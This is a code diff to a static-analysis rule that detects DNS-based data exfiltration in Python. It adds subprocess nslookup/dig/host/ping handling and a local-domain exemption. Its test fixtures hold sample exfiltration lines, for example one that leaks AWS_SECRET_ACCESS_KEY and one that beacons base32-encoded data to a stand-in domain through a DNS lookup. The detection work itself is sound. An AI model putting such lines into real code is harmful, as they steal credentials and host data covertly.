@@ -11,6 +11,7 @@ from datasec_scan.tree import walk
 
 from ._outbound import CRITICAL_LABELS, Analyzer, label_severity, label_text
 
+_LOCAL_SUFFIXES = (".local", ".localdomain", ".lan", ".home.arpa", ".localhost", ".internal")
 _ENCODERS = ("b64encode", "b32encode", "b16encode", "urlsafe_b64encode", "hexlify", "hex", "b85encode", "encode")
 
 
@@ -19,10 +20,11 @@ class DnsExfiltration(Rule):
 
     ## What it does
     Looks at DNS lookups (`socket.gethostbyname`, `getaddrinfo`, `gethostbyname_ex`,
-    `dns.resolver.resolve`/`query`, `aiodns`) whose name is built — f-string, `+`, `%`,
-    `.format`, `".".join(...)` — from a non-constant part followed by a constant domain
-    (`f"{chunk}.t.example.net"`). It reports when that part carries sensitive data (DS301's sources:
-    environment, credential files, host fingerprints...) or is encoded (`base64`/`base32`/hex).
+    `dns.resolver.resolve`/`query`, `aiodns`, `nslookup`/`dig`/`host`/`ping` child processes)
+    whose name is built — f-string, `+`, `%`, `.format`, `".".join(...)` — from a non-constant part
+    followed by a constant domain (`f"{chunk}.t.example.net"`). It reports when that part carries
+    sensitive data (DS301's sources: environment, credential files, host fingerprints...) or is
+    encoded (`base64`/`base32`/hex).
     Resolving the machine's own name (`gethostbyname(socket.gethostname())`) is not reported.
 
     Severity: **critical** for credentials and secrets, **high** for other sensitive data,
@@ -55,25 +57,33 @@ class DnsExfiltration(Rule):
     confidence = Confidence.HIGH
     cwe = (200,)
     attack = ("T1048.003", "T1071.004")
-    triggers = ("gethostbyname", "getaddrinfo", "resolve", "query", "getfqdn", "dns")
+    triggers = ("gethostbyname", "getaddrinfo", "resolve", "query", "getfqdn", "dns", "nslookup", "subprocess")
     VALID = (
         "import socket\nsocket.gethostbyname(socket.gethostname())\n",
         "import socket\nsocket.getaddrinfo('example.com', 443)\n",
         "import socket\ndef lookup(host):\n    return socket.gethostbyname(host)\n",
         "import socket\nregion = 'eu'\nsocket.gethostbyname(f'api.{region}.example.com')\n",
+        "import subprocess\ndef check(name):\n    subprocess.run(['nslookup', name + '.svc.example.com'])\n",
     )
     INVALID = (
         "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example.net')\n",
         ("import base64, socket\ndef beacon(data):\n    socket.gethostbyname(base64.b32encode(data).decode() + "
          "'.x.example.net')\n"),
+        "import getpass, subprocess\nsubprocess.run(['nslookup', getpass.getuser() + '.x.example.net'])\n",
     )
 
     def visit_Call(self, node: cst.Call) -> None:
         analyzer = Analyzer.of(self.context)
         sink = analyzer.sink(node)
-        if sink is None or not sink.spec.dns:
+        if sink is None:
             return
-        name = sink.destination_expr
+        if sink.spec.dns:
+            name = sink.destination_expr
+        elif sink.spec.destination == "command":  # `nslookup {data}.x.example.net`, `dig`, `host`, `ping`
+            name = next((a for a in analyzer.command_name_args(node) if self._composite_with_domain(analyzer, a)),
+                        None)
+        else:
+            return
         if name is None or not self._composite_with_domain(analyzer, name):
             return
         taints = analyzer.flow.taints(name, analyzer.classify)
@@ -121,6 +131,8 @@ class DnsExfiltration(Rule):
                 seq = expr.args[0].value
                 if isinstance(seq, (cst.List, cst.Tuple)) and seq.elements:
                     suffix = "." + (fold_str(seq.elements[-1].value, names) or "")
+        if suffix and suffix.lower().rstrip(".").endswith(_LOCAL_SUFFIXES):
+            return False  # `f"{socket.gethostname()}.local"`: a name on the local network, not an attacker's zone
         return bool(suffix) and "." in suffix.strip(".") or bool(suffix and suffix.startswith(".") and len(suffix) > 3)
 
     @staticmethod
